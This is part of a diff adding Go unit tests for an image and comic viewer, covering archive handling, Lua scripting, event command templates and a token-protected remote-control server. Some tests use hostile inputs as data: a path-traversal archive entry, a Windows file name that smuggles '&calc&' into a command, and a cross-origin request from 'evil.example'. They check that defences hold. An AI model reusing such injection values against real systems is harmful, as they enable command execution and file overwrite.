+			t.Errorf("detectArchive(%q) = %+v, %v; want %+v", tt.path, got, ok, tt.want)
+		}
+	}
+}
+
+func TestPureExtractImagesFromCompressedTar(t *testing.T) {
+	writeTar := func(w io.Writer) {
+		tw := tar.NewWriter(w)
+		for _, name := range []string{"b.png", "a.jpg", "readme.txt"} {
+			tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: 1, Typeflag: tar.TypeReg})
+			tw.Write([]byte{0})
+		}
+		tw.Close()
+	}
+
+	dir := t.TempDir()
+	gzPath := filepath.Join(dir, "pages.TAR.GZ")
+	f, err := os.Create(gzPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	zw := gzip.NewWriter(f)
+	writeTar(zw)
+	zw.Close()
+	f.Close()
+
+	zstPath := filepath.Join(dir, "pages.tar.zst")
+	f, err = os.Create(zstPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	enc, err := zstd.NewWriter(f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	writeTar(enc)
+	enc.Close()
+	f.Close()
+
+	for _, path := range []string{gzPath, zstPath} {
+		images, err := processArchive(path)
+		if err != nil {
+			t.Fatalf("processArchive(%s): %v", path, err)
+		}
+		var entries []string
+		for _, img := range images {
+			entries = append(entries, img.EntryPath)
+		}
+		if !reflect.DeepEqual(entries, []string{"b.png", "a.jpg"}) {
+			t.Errorf("entries of %s = %v, want [b.png a.jpg]", filepath.Base(path), entries)
+		}
+	}
+}
+
+func writeTestZip(t *testing.T, path string, entries map[string][]byte) {
+	t.Helper()
+	f, err := os.Create(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	zw := zip.NewWriter(f)
+	for name, data := range entries {
+		w, err := zw.Create(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		w.Write(data)
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	f.Close()
+}
+
+func TestPureArchivePrefetcherModes(t *testing.T) {
+	archivePath := filepath.Join(t.TempDir(), "book.zip")
+	writeTestZip(t, archivePath, map[string][]byte{
+		"01.png":    []byte("page one"),
+		"02.png":    []byte("page two"),
+		"notes.txt": []byte("not an image"),
+	})
+	paths := []ImagePath{
+		{Path: archivePath + ":01.png", ArchivePath: archivePath, EntryPath: "01.png"},
+		{Path: archivePath + ":02.png", ArchivePath: archivePath, EntryPath: "02.png"},
+	}
+	wait := func(p *archivePrefetcher) *prefetchedArchive {
+		p.mu.Lock()
+		a := p.archives[archivePath]
+		p.mu.Unlock()
+		if a == nil {
+			t.Fatal("archive not being prefetched")
+		}
+		<-a.ready
+		return a
+	}
+
+	for _, mode := range []string{archivePrefetchMemory, archivePrefetchTemp} {
+		p := newArchivePrefetcher()
+		p.Configure(mode, 64)
+		p.Sync(paths)
+		a := wait(p)
+		if data, ok := p.Lookup(archivePath, "02.png"); !ok || string(data) != "page two" {
+			t.Fatalf("%s: Lookup = %q, %v", mode, data, ok)
+		}
+		if _, ok := p.Lookup(archivePath, "notes.txt"); ok {
+			t.Fatalf("%s: non-image entry was extracted", mode)
+		}
+		dir := a.dir
+		p.Close()
+		if mode == archivePrefetchTemp {
+			if dir == "" {
+				t.Fatal("temp mode extracted without a directory")
+			}
+			// Close removes the directory before returning
+			if _, err := os.Stat(dir); !os.IsNotExist(err) {
+				t.Fatalf("temp dir %s not removed: %v", dir, err)
+			}
+		}
+		if p.used != 0 {
+			t.Fatalf("%s: %d bytes still charged after Close", mode, p.used)
+		}
+	}
+
+	// Over the memory cap the archive is left to direct reads
+	p := newArchivePrefetcher()
+	p.Configure(archivePrefetchMemory, 64)
+	p.maxBytes = 10
+	p.Sync(paths)
+	if a := wait(p); !errors.Is(a.err, errArchiveTooLarge) {
+		t.Fatalf("err = %v, want errArchiveTooLarge", a.err)
+	}
+	if _, ok := p.Lookup(archivePath, "01.png"); ok {
+		t.Fatal("Lookup succeeded for an archive over the cap")
+	}
+	p.Close()
+}
+
+func TestPureArchivePrefetcherSharesBudgetAcrossCurrentAndNextVolume(t *testing.T) {
+	dir := t.TempDir()
+	var paths []ImagePath
+	for _, name := range []string{"vol1.zip", "vol2.zip", "vol3.zip"} {
+		archivePath := filepath.Join(dir, name)
+		writeTestZip(t, archivePath, map[string][]byte{"01.png": bytes.Repeat([]byte("x"), 600)})
+		paths = append(paths, ImagePath{Path: archivePath + ":01.png", ArchivePath: archivePath, EntryPath: "01.png"})
+	}
+	if got := prefetchTargets(paths, 1); !slices.Equal(got, []string{paths[1].ArchivePath, paths[2].ArchivePath}) {
+		t.Fatalf("prefetchTargets = %v", got)
+	}
+
+	for _, mode := range []string{archivePrefetchMemory, archivePrefetchTemp} {
+		p := newArchivePrefetcher()
+		p.Configure(mode, 64)
+		p.maxBytes = 1000 // room for one volume, not two
+		p.Sync(paths)
+		p.mu.Lock()
+		var archives []*prefetchedArchive
+		for _, a := range p.archives {
+			archives = append(archives, a)
+		}
+		p.mu.Unlock()
+		if len(archives) != 2 {
+			t.Fatalf("%s: %d archives prefetched, want the current and next", mode, len(archives))
+		}
+		ok := 0
+		for _, a := range archives {
+			<-a.ready
+			if a.err == nil {
+				ok++
+			} else if !errors.Is(a.err, errArchiveTooLarge) {
+				t.Fatalf("%s: err = %v", mode, a.err)
+			}
+		}
+		if ok != 1 || p.used != 600 {
+			t.Fatalf("%s: %d archives fit, %d bytes charged; want 1 and 600", mode, ok, p.used)
+		}
+		p.Close()
+	}
+}
+
+func TestPureChapterNavigation(t *testing.T) {
+	paths := []ImagePath{
+		{Path: "book.zip:cover.png", ArchivePath: "book.zip", EntryPath: "cover.png"},
+		{Path: "book.zip:ch1/01.png", ArchivePath: "book.zip", EntryPath: "ch1/01.png"},
+		{Path: "book.zip:ch1/02.png", ArchivePath: "book.zip", EntryPath: "ch1/02.png"},
+		{Path: "book.zip:ch2/01.png", ArchivePath: "book.zip", EntryPath: "ch2/01.png"},
+		{Path: "book.zip:ch2/02.png", ArchivePath: "book.zip", EntryPath: "ch2/02.png"},
+	}
+	images := make([]DisplayImage, len(paths))
+	for i := range images {
+		images[i] = testDisplayImage(4, 4)
+	}
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths, images: images},
+		zoomState:    NewZoomState(),
+	}
+
+	var visited []int
+	for range 3 {
+		g.jumpToNextChapter()
+		visited = append(visited, g.idx)
+	}
+	if !reflect.DeepEqual(visited, []int{1, 3, 3}) {
+		t.Fatalf("next chapter indices = %v, want [1 3 3]", visited)
+	}
+	if g.overlayMessage != "Last chapter" {
+		t.Fatalf("overlay = %q, want Last chapter", g.overlayMessage)
+	}
+	if g.displayContent == nil || g.displayContent.Metadata.Chapter != "ch2" {
+		t.Fatalf("chapter metadata = %+v, want ch2", g.displayContent)
+	}
+
+	g.jumpToPage(5)
+	visited = nil
+	for range 3 {
+		g.jumpToPreviousChapter()
+		visited = append(visited, g.idx)
+	}
+	if !reflect.DeepEqual(visited, []int{3, 1, 0}) {
+		t.Fatalf("previous chapter indices = %v, want [3 1 0]", visited)
+	}
+}
+
+func TestPureExtractImagesSkipsArchiveJunk(t *testing.T) {
+	archiveIgnore.Store(nil)
+	t.Cleanup(func() { archiveIgnore.Store(nil) })
+	archivePath := filepath.Join(t.TempDir(), "book.zip")
+	writeTestZip(t, archivePath, map[string][]byte{
+		"01.png":                 []byte("page"),
+		"ch1/02.png":             []byte("page"),
+		"__MACOSX/ch1/._02.png":  []byte("fork"),
+		"ch1/.hidden.png":        []byte("page"),
+		"ch1/empty.png":          nil,
+		"thumbs/THUMBS.DB/x.png": []byte("page"),
+		"./03.png":               []byte("page"),
+	})
+
+	entries := func() []string {
+		t.Helper()
+		images, err := extractImagesFromZip(archivePath)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var names []string
+		for _, img := range images {
+			names = append(names, img.EntryPath)
+		}
+		slices.Sort(names)
+		return names
+	}
+
+	if got, want := entries(), []string{"./03.png", "01.png", "ch1/02.png"}; !reflect.DeepEqual(got, want) {
+		t.Fatalf("default ignore entries = %v, want %v", got, want)
+	}
+	// Archives that do not record sizes report -1; only a known zero is empty
+	if !isArchiveImageEntry("01.png", -1) || isArchiveImageEntry("01.png", 0) {
+		t.Fatal("unknown sizes should be listed and known empty entries skipped")
+	}
+
+	setArchiveIgnore([]string{})
+	if got, want := entries(), []string{"./03.png", "01.png", "__MACOSX/ch1/._02.png", "ch1/.hidden.png", "ch1/02.png", "thumbs/THUMBS.DB/x.png"}; !reflect.DeepEqual(got, want) {
+		t.Fatalf("unfiltered entries = %v, want %v", got, want)
+	}
+}
+
+func TestPureLoadConfigValidatesArchiveIgnore(t *testing.T) {
+	configPath := filepath.Join(t.TempDir(), "config.json")
+	if err := os.WriteFile(configPath, []byte(`{"archive_ignore":["*.bak","[",""]}`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	result := loadConfigFromPath(configPath)
+	if !reflect.DeepEqual(result.Config.ArchiveIgnore, []string{"*.bak"}) {
+		t.Errorf("ArchiveIgnore = %q, want [*.bak]", result.Config.ArchiveIgnore)
+	}
+	if result.Status != "Warning" {
+		t.Errorf("Status = %q, want Warning", result.Status)
+	}
+
+	defaults := loadConfigFromPath(filepath.Join(t.TempDir(), "missing.json")).Config
+	if !reflect.DeepEqual(defaults.ArchiveIgnore, defaultArchiveIgnore) {
+		t.Errorf("default ArchiveIgnore = %q", defaults.ArchiveIgnore)
+	}
+}
+
+func TestPureCompareModeCycleAndBlink(t *testing.T) {
+	g := &Game{
+		imageManager: &stubImageManager{paths: []ImagePath{{Path: "a.png"}, {Path: "b.png"}}, images: []DisplayImage{testDisplayImage(4, 6), testDisplayImage(4, 6)}},
+		zoomState:    NewZoomState(),
+		config:       Config{AspectRatioThreshold: 1.5},
+	}
+	g.calculateDisplayContent()
+	g.cycleCompareMode()
+	if g.compareMode != CompareOff || g.overlayMessage != "Compare needs two pages (book mode)" {
+		t.Fatalf("single page compare: mode=%v overlay=%q", g.compareMode, g.overlayMessage)
+	}
+
+	g.bookMode = true
+	g.calculateDisplayContent()
+	var modes []CompareMode
+	for range 3 {
+		g.cycleCompareMode()
+		modes = append(modes, g.compareMode)
+	}
+	if !reflect.DeepEqual(modes, []CompareMode{CompareHeatmap, CompareBlink, CompareOff}) {
+		t.Fatalf("compare modes = %v", modes)
+	}
+
+	if g.advanceCompareBlink(compareBlinkInterval) {
+		t.Fatal("blink advanced while compare is off")
+	}
+	g.compareMode = CompareBlink
+	if g.advanceCompareBlink(compareBlinkInterval/2) || !g.advanceCompareBlink(compareBlinkInterval/2) || !g.compareShowRight {
+		t.Fatalf("blink did not swap after one interval: showRight=%v", g.compareShowRight)
+	}
+
+	if _, err := ebiten.NewShader([]byte(compareHeatShader)); err != nil {
+		t.Fatalf("heat map shader: %v", err)
+	}
+}
+
+func TestPureBuildContactSheet(t *testing.T) {
+	tempDir := t.TempDir()
+	var encoded bytes.Buffer
+	src := image.NewNRGBA(image.Rect(0, 0, 40, 20))
+	for i := range src.Pix {
+		src.Pix[i] = 255
+	}
+	if err := png.Encode(&encoded, src); err != nil {
+		t.Fatal(err)
+	}
+	filePath := filepath.Join(tempDir, "a.png")
+	if err := os.WriteFile(filePath, encoded.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	archivePath := filepath.Join(tempDir, "book.zip")
+	writeTestZip(t, archivePath, map[string][]byte{"b.png": encoded.Bytes(), "broken.png": []byte("nope")})
+
+	paths := []ImagePath{
+		{Path: filePath},
+		{Path: archivePath + ":b.png", ArchivePath: archivePath, EntryPath: "b.png"},
+		{Path: archivePath + ":broken.png", ArchivePath: archivePath, EntryPath: "broken.png"},
+	}
+	opts := contactSheetOptions{Columns: 2, CellSize: 32, Labels: true}
+	sheet, err := buildContactSheet(paths, opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	wantW, wantH, _ := contactSheetLayout(len(paths), opts)
+	if b := sheet.Bounds(); b.Dx() != wantW || b.Dy() != wantH {
+		t.Fatalf("sheet size = %v, want %dx%d", b, wantW, wantH)
+	}
+	if wantW != 2*36+4 || wantH != 2*(36+contactSheetLabelHeight)+4 {
+		t.Fatalf("layout = %dx%d", wantW, wantH)
+	}
+
+	// The 40x20 source fits a 32x16 thumbnail centered in each cell
+	if c := sheet.NRGBAAt(4+16, 4+16); c != (color.NRGBA{255, 255, 255, 255}) {
+		t.Errorf("file thumbnail pixel = %v, want white", c)
+	}
+	if c := sheet.NRGBAAt(40+16, 4+16); c != (color.NRGBA{255, 255, 255, 255}) {
+		t.Errorf("archive thumbnail pixel = %v, want white", c)
+	}
+	if c := sheet.NRGBAAt(4+16, 4+36+contactSheetLabelHeight+2); c != contactSheetErrorColor {
+		t.Errorf("broken entry pixel = %v, want placeholder", c)
+	}
+
+	output := filepath.Join(tempDir, "sheet.jpg")
+	if err := writeImageFile(output, sheet); err != nil {
+		t.Fatal(err)
+	}
+	if format, _ := imgdecode.SniffFile(output); format != "jpeg" {
+		t.Errorf("written format = %q, want jpeg", format)
+	}
+}
+
+func TestPureSubcommandOutputName(t *testing.T) {
+	tests := []struct {
+		path ImagePath
+		want string
+	}{
+		{ImagePath{Path: "/photos/a.jpeg"}, "a.png"},
+		{ImagePath{Path: "book.tar.gz:ch1/01.jpg", ArchivePath: "/x/book.tar.gz", EntryPath: "ch1/01.jpg"}, filepath.Join("book", "ch1", "01.png")},
+		{ImagePath{Path: "evil.zip:../../etc/x.png", ArchivePath: "evil.zip", EntryPath: "../../etc/x.png"}, filepath.Join("evil", "etc", "x.png")},
+		{ImagePath{Path: "w.rar:dir\\p.webp", ArchivePath: "w.RAR", EntryPath: "dir\\p.webp"}, filepath.Join("w", "dir", "p.png")},
+	}
+	for _, tt := range tests {
+		if got := subcommandOutputName(tt.path, ".png"); got != tt.want {
+			t.Errorf("subcommandOutputName(%q) = %q, want %q", tt.path.Path, got, tt.want)
+		}
+	}
+}
+
+func TestPureSubcommandOutputNamesNumberCollisions(t *testing.T) {
+	paths := []ImagePath{
+		{Path: "/a/cover.jpg"},
+		{Path: "/b/cover.jpg"},
+		{Path: "/b/COVER.webp"},
+		{Path: "/b/cover_2.png"},
+	}
+	got := subcommandOutputNames(paths, ".png")
+	want := []string{"cover.png", "cover_2.png", "COVER_3.png", "cover_2_2.png"}
+	if !slices.Equal(got, want) {
+		t.Fatalf("subcommandOutputNames = %q, want %q", got, want)
+	}
+}
+
+func TestPureSubcommandNameYieldsToExistingPath(t *testing.T) {
+	dir := t.TempDir()
+	t.Chdir(dir)
+	if err := os.WriteFile("list", nil, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if _, ok := runSubcommand([]string{"list", "x.zip"}); ok {
+		t.Error("an existing file named list was run as the list subcommand")
+	}
+}
+
+func TestPureThumbSubcommandWritesScaledImages(t *testing.T) {
+	tempDir := t.TempDir()
+	var encoded bytes.Buffer
+	if err := png.Encode(&encoded, image.NewGray(image.Rect(0, 0, 100, 50))); err != nil {
+		t.Fatal(err)
+	}
+	archivePath := filepath.Join(tempDir, "book.zip")
+	writeTestZip(t, archivePath, map[string][]byte{"ch1/01.png": encoded.Bytes(), "ch2/01.png": encoded.Bytes()})
+	outDir := filepath.Join(tempDir, "out")
+
+	code, ok := runSubcommand([]string{"thumb", "-size", "20", "-o", outDir, archivePath})
+	if !ok || code != 0 {
+		t.Fatalf("runSubcommand = %d, %v", code, ok)
+	}
+	for _, name := range []string{"ch1", "ch2"} {
+		f, err := os.Open(filepath.Join(outDir, "book", name, "01.png"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		cfg, err := png.DecodeConfig(f)
+		f.Close()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if cfg.Width != 20 || cfg.Height != 10 {
+			t.Errorf("%s thumbnail = %dx%d, want 20x10", name, cfg.Width, cfg.Height)
+		}
+	}
+
+	if _, ok := runSubcommand([]string{filepath.Join(tempDir, "book.zip")}); ok {
+		t.Error("plain path treated as a subcommand")
+	}
+}
+
+func TestPureWriteImageListUsesSortStrategy(t *testing.T) {
+	entry := func(name string) ImagePath {
+		return ImagePath{Path: "book.zip:" + name, ArchivePath: "book.zip", EntryPath: name}
+	}
+	raw := []ImagePath{entry("10.png"), entry("9.png"), {Path: "cover.png"}}
+
+	var natural bytes.Buffer
+	writeImageList(&natural, GetSortStrategy(subcommandSortMethods["natural"]).Sort(raw), false, true)
+	if got, want := natural.String(), "1\t9.png\n2\t10.png\n3\tcover.png\n"; got != want {
+		t.Errorf("natural list = %q, want %q", got, want)
+	}
+
+	var entryOrder bytes.Buffer
+	writeImageList(&entryOrder, GetSortStrategy(subcommandSortMethods["entry"]).Sort(raw), true, false)
+	if got, want := entryOrder.String(), "book.zip:10.png\nbook.zip:9.png\ncover.png\n"; got != want {
+		t.Errorf("entry order list = %q, want %q", got, want)
+	}
+}
+
+func TestPureScriptHooksAndActions(t *testing.T) {
+	dir := t.TempDir()
+	script := filepath.Join(dir, "init.lua")
+	if err := os.WriteFile(script, []byte(`
+seen = {}
+nv.on("startup", function() nv.message("hello") end)
+nv.on("image_changed", function(img)
+  table.insert(seen, img.entry .. "@" .. img.page .. "/" .. img.total)
+end)
+nv.action("next_two", function() nv.jump(nv.current().page + 2) end)
+nv.action("spin", function() while true do end end)
+`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	broken := filepath.Join(dir, "broken.lua")
+	if err := os.WriteFile(broken, []byte("this is not lua"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	paths := []ImagePath{
+		{Path: "b.zip:1.png", ArchivePath: "b.zip", EntryPath: "1.png"},
+		{Path: "b.zip:2.png", ArchivePath: "b.zip", EntryPath: "2.png"},
+		{Path: "b.zip:3.png", ArchivePath: "b.zip", EntryPath: "3.png"},
+	}
+	images := []DisplayImage{testDisplayImage(4, 4), testDisplayImage(4, 4), testDisplayImage(4, 4)}
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths, images: images},
+		zoomState:    NewZoomState(),
+		configPath:   filepath.Join(dir, "config.json"),
+		config:       Config{Scripts: []string{"broken.lua", "init.lua"}},
+	}
+	g.loadScripts()
+	t.Cleanup(g.scripts.Close)
+	if g.overlayMessage != "hello" {
+		t.Fatalf("overlay after startup = %q, want hello", g.overlayMessage)
+	}
+
+	if !g.notifyScriptImageChanged() || g.notifyScriptImageChanged() {
+		t.Fatal("image_changed should fire once per page")
+	}
+	// A key bound to the script action runs it through the input handler
+	origJustPressed, origHeld := keyJustPressed, keyHeld
+	keyJustPressed = func(k ebiten.Key) bool { return k == ebiten.KeyX }
+	keyHeld = func(ebiten.Key) bool { return false }
+	t.Cleanup(func() { keyJustPressed, keyHeld = origJustPressed, origHeld })
+	keys := NewKeybindingManager(map[string][]string{"next": {"Space"}, "script:next_two": {"KeyX"}})
+	h := NewInputHandler(g, g, keys, NewMousebindingManager(map[string][]string{}, MouseSettings{}))
+	if !h.handleKeyboardInput() || g.idx != 2 {
+		t.Fatalf("idx after the bound key = %d, want 2", g.idx)
+	}
+	keyJustPressed = func(ebiten.Key) bool { return false }
+	g.notifyScriptImageChanged()
+	seen := g.scripts.L.GetGlobal("seen").(*lua.LTable)
+	if got := []string{seen.RawGetInt(1).String(), seen.RawGetInt(2).String()}; !reflect.DeepEqual(got, []string{"1.png@1/3", "3.png@3/3"}) {
+		t.Fatalf("image_changed calls = %v", got)
+	}
+
+	// js/wasm cannot preempt the loop for the deadline timer
+	if runtime.GOOS != "js" {
+		g.runScriptAction("spin")
+		if !strings.HasPrefix(g.overlayMessage, "Script error:") {
+			t.Fatalf("overlay after runaway action = %q, want script error", g.overlayMessage)
+		}
+	}
+	g.runScriptAction("missing")
+	if g.overlayMessage != "Unknown script action: missing" {
+		t.Fatalf("overlay = %q", g.overlayMessage)
+	}
+}
+
+func TestPureEventCommandTemplates(t *testing.T) {
+	p := ImagePath{Path: "/books/a b.zip:ch1/it's.png", ArchivePath: "/books/a b.zip", EntryPath: `ch1\it's.png`}
+	vars := eventCommandVars(p, 3, 10)
+	if vars["name"] != "it's.png" || vars["page"] != "3" || vars["total"] != "10" {
+		t.Fatalf("vars = %v", vars)
+	}
+
+	got := expandEventCommand("echo {page}/{total} {name} {{x} {unknown} {archive", vars, "linux")
+	want := `echo '3'/'10' 'it'\''s.png' {x} {unknown} {archive`
+	if got != want {
+		t.Fatalf("unix expansion = %q, want %q", got, want)
+	}
+	// cmd.exe never sees the values: they are read from the environment
+	// after the line is parsed, so %VAR% and & in a name stay inert
+	winVars := map[string]string{"archive": `C:\a%CMDCMDLINE%&calc&.zip`, "entry": ""}
+	got = expandEventCommand(`open {archive} {entry}`, winVars, "windows")
+	if want := `open "!NV_ARCHIVE!" ""`; got != want {
+		t.Fatalf("windows expansion = %q, want %q", got, want)
+	}
+	if env := commandEnv(winVars); !slices.Equal(env, []string{`NV_ARCHIVE=C:\a%CMDCMDLINE%&calc&.zip`, "NV_ENTRY="}) {
+		t.Fatalf("command env = %q", env)
+	}
+
+	if vars := eventCommandVars(ImagePath{Path: "/x/y.png"}, 0, 0); vars["name"] != "y.png" || vars["page"] != "" || vars["entry"] != "" {
+		t.Fatalf("file vars = %v", vars)
+	}
+
+	before := []ImagePath{{Path: "a.png"}, {Path: "b.png"}, {Path: "c.png"}}
+	removed := removedImagePaths(before, []ImagePath{{Path: "c.png"}, {Path: "d.png"}, {Path: "a.png"}})
+	if len(removed) != 1 || removed[0].Path != "b.png" {
+		t.Fatalf("removed = %v", removed)
+	}
+}
+
+func TestPureLoadConfigValidatesEventCommands(t *testing.T) {
+	configPath := filepath.Join(t.TempDir(), "config.json")
+	data := `{"event_commands": {"image_changed": "echo {path}", "file_deleted": "  ", "page_flip": "true"}}`
+	if err := os.WriteFile(configPath, []byte(data), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	result := loadConfigFromPath(configPath)
+	if result.Status != "Warning" {
+		t.Fatalf("status = %q, want Warning", result.Status)
+	}
+	want := map[string]string{eventImageChanged: "echo {path}"}
+	if !maps.Equal(result.Config.EventCommands, want) {
+		t.Fatalf("event commands = %v, want %v", result.Config.EventCommands, want)
+	}
+}
+
+func TestPureRemoteServerMirrorsAndDrivesSession(t *testing.T) {
+	dir := t.TempDir()
+	var paths []ImagePath
+	for _, name := range []string{"1.png", "2.png", "3.png"} {
+		var buf bytes.Buffer
+		if err := png.Encode(&buf, image.NewNRGBA(image.Rect(0, 0, 4000, 1000))); err != nil {
+			t.Fatal(err)
+		}
+		p := filepath.Join(dir, name)
+		if err := os.WriteFile(p, buf.Bytes(), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		paths = append(paths, ImagePath{Path: p})
+	}
+	images := []DisplayImage{testDisplayImage(4, 4), testDisplayImage(4, 4), testDisplayImage(4, 4)}
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths, images: images},
+		zoomState:    NewZoomState(),
+		remote:       newRemoteServer(),
+	}
+	g.calculateDisplayContent()
+	g.publishRemoteState()
+	handler := g.remote.handler()
+	send := func(req *http.Request) *httptest.ResponseRecorder {
+		rec := httptest.NewRecorder()
+		handler.ServeHTTP(rec, req)
+		return rec
+	}
+	if rec := send(httptest.NewRequest("GET", "/", nil)); rec.Code != http.StatusUnauthorized {
+		t.Fatalf("page without token code = %d, want 401", rec.Code)
+	}
+	page := send(httptest.NewRequest("GET", "/?token="+g.remote.token, nil))
+	cookies := page.Result().Cookies()
+	if page.Code != http.StatusOK || len(cookies) != 1 || cookies[0].Value != g.remote.token || cookies[0].SameSite != http.SameSiteStrictMode {
+		t.Fatalf("page with token: code %d, cookies %v", page.Code, cookies)
+	}
+	request := func(method, target string) *httptest.ResponseRecorder {
+		req := httptest.NewRequest(method, target, nil)
+		req.AddCookie(cookies[0])
+		if method == "POST" {
+			req.Header.Set("Origin", "http://"+req.Host)
+		}
+		return send(req)
+	}
+	for _, target := range []string{"/state", "/image?slot=0", "/action/next?token=wrong"} {
+		method := "GET"
+		if strings.HasPrefix(target, "/action/") {
+			method = "POST"
+		}
+		if rec := send(httptest.NewRequest(method, target, nil)); rec.Code != http.StatusUnauthorized {
+			t.Fatalf("%s %s without token code = %d, want 401", method, target, rec.Code)
+		}
+	}
+	crossSite := httptest.NewRequest("POST", "/action/next", nil)
+	crossSite.AddCookie(cookies[0])
+	crossSite.Header.Set("Origin", "http://evil.example")
+	if rec := send(crossSite); rec.Code != http.StatusForbidden || len(g.remote.commands) != 0 {
+		t.Fatalf("cross-origin action code = %d, want 403", rec.Code)
+	}
+	if got := remoteListenAddr(":8080"); got != "127.0.0.1:8080" {
+		t.Fatalf("remoteListenAddr(:8080) = %q", got)
+	}
+	if got := remoteListenAddr("0.0.0.0:8080"); got != "0.0.0.0:8080" {
+		t.Fatalf("remoteListenAddr(0.0.0.0:8080) = %q", got)
+	}
+
+	var state remoteState
+	if err := json.Unmarshal(request("GET", "/state").Body.Bytes(), &state); err != nil {
+		t.Fatal(err)
+	}
+	if state.Version != 1 || !slices.Equal(state.Pages, []int{1}) || state.Total != 3 || state.Names[0] != "1.png" {
+		t.Fatalf("state = %+v", state)
+	}
+
+	rec := request("GET", "/image?slot=0")
+	if rec.Code != http.StatusOK || rec.Header().Get("Content-Type") != "image/jpeg" {
+		t.Fatalf("image response = %d %q", rec.Code, rec.Header().Get("Content-Type"))
+	}
+	cfg, err := jpeg.DecodeConfig(rec.Body)
+	if err != nil || cfg.Width != remoteMaxImageSize || cfg.Height != remoteMaxImageSize/4 {
+		t.Fatalf("image = %+v, %v; want scaled to %d px", cfg, err, remoteMaxImageSize)
+	}
+	if rec := request("GET", "/image?slot=1"); rec.Code != http.StatusNotFound {
+		t.Fatalf("undisplayed slot code = %d, want 404", rec.Code)
+	}
+	var small bytes.Buffer
+	if err := png.Encode(&small, image.NewNRGBA(image.Rect(0, 0, 100, 100))); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(paths[0].Path, small.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err = jpeg.DecodeConfig(request("GET", "/image?slot=0").Body)
+	if err != nil || cfg.Width != 100 {
+		t.Fatalf("rewritten image = %+v, %v; want the new 100 px image", cfg, err)
+	}
+
+	if rec := request("POST", "/action/delete"); rec.Code != http.StatusNotFound {
+		t.Fatalf("unknown action code = %d, want 404", rec.Code)
+	}
+	if rec := request("POST", "/action/last"); rec.Code != http.StatusNoContent {
+		t.Fatalf("action code = %d, want 204", rec.Code)
+	}
+	if g.idx != 0 {
+		t.Fatal("remote action must wait for the game loop")
+	}
+	if !g.applyRemoteCommands() || g.idx != 2 {
+		t.Fatalf("idx after remote last = %d, want 2", g.idx)
+	}
+	g.publishRemoteState()
+	if got := g.remote.state.Load(); got.Version != 2 || !slices.Equal(got.Pages, []int{3}) {
+		t.Fatalf("state after navigation = %+v", got)
+	}
+}
+
+func TestPureSlideshowAndMediaCommands(t *testing.T) {
+	paths := []ImagePath{
+		{Path: "/p/1.png"},
+		{Path: "b.zip:2.png", ArchivePath: "/p/b.zip", EntryPath: "2.png"},
+		{Path: "/p/3.png"},
+	}
+	images := []DisplayImage{testDisplayImage(4, 4), testDisplayImage(4, 4), testDisplayImage(4, 4)}
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths, images: images},
+		zoomState:    NewZoomState(),
+		config:       Config{SlideshowSeconds: 2},
+	}
+	g.calculateDisplayContent()
+
+	g.mediaCommands = make(chan mpris.Command, 4)
+	g.mediaCommands <- mpris.CommandPlayPause
+	if !g.applyMediaCommands() || !g.slideshowActive {
+		t.Fatal("play_pause should start the slideshow")
+	}
+	if g.advanceSlideshow(time.Second) || g.idx != 0 {
+		t.Fatal("slideshow advanced before its interval")
+	}
+	if !g.advanceSlideshow(time.Second) || g.idx != 1 {
+		t.Fatalf("idx after interval = %d, want 1", g.idx)
+	}
+
+	status := g.mediaStatus()
+	if !status.Playing || status.Title != "2.png" || status.Album != "b.zip" || status.ArtURL != "" || status.Page != 2 || status.Total != 3 {
+		t.Fatalf("media status = %+v", status)
+	}
+
+	// Manual navigation restarts the interval
+	g.advanceSlideshow(time.Second)
+	g.mediaCommands <- mpris.CommandPrevious
+	g.applyMediaCommands()
+	if g.advanceSlideshow(time.Second) || g.idx != 0 {
+		t.Fatalf("idx = %d; manual navigation should restart the interval", g.idx)
+	}
+
+	g.jumpToPage(3)
+	g.advanceSlideshow(2 * time.Second)
+	if g.slideshowActive || g.overlayMessage != "Slideshow finished" {
+		t.Fatalf("slideshow on last page: active=%v overlay=%q", g.slideshowActive, g.overlayMessage)
+	}
+	if status := g.mediaStatus(); status.Playing || !strings.HasPrefix(status.ArtURL, "file:///") {
+		t.Fatalf("media status on last page = %+v", status)
+	}
+
+	g.mediaCommands <- mpris.CommandPlay
+	g.mediaCommands <- mpris.CommandStop
+	g.applyMediaCommands()
+	if g.slideshowActive {
+		t.Fatal("stop should end the slideshow")
+	}
+
+	// A locked kiosk cannot be closed over D-Bus
+	g.kiosk, g.kioskLocked = true, true
+	if !g.mediaStatus().QuitLocked {
+		t.Fatal("locked kiosk should advertise CanQuit=false")
+	}
+	g.mediaCommands <- mpris.CommandQuit
+	g.applyMediaCommands()
+	if g.exitRequested {
+		t.Fatal("quit ran while the kiosk was locked")
+	}
+	g.kioskLocked = false
+	g.mediaCommands <- mpris.CommandQuit
+	g.applyMediaCommands()
+	if g.mediaStatus().QuitLocked || !g.exitRequested {
+		t.Fatal("quit should work once the kiosk is unlocked")
+	}
+}
+
+func TestPurePresentationModeAndBlankScreen(t *testing.T) {
+	g := &Game{
+		imageManager: &stubImageManager{paths: []ImagePath{{Path: "a.png"}}, images: []DisplayImage{testDisplayImage(4, 4)}},
+		zoomState:    NewZoomState(),
+		config:       Config{PresentationPointer: true},
+	}
+	if _, ok := g.GetLaserPointer(); ok {
+		t.Fatal("laser pointer shown outside presentation mode")
+	}
+
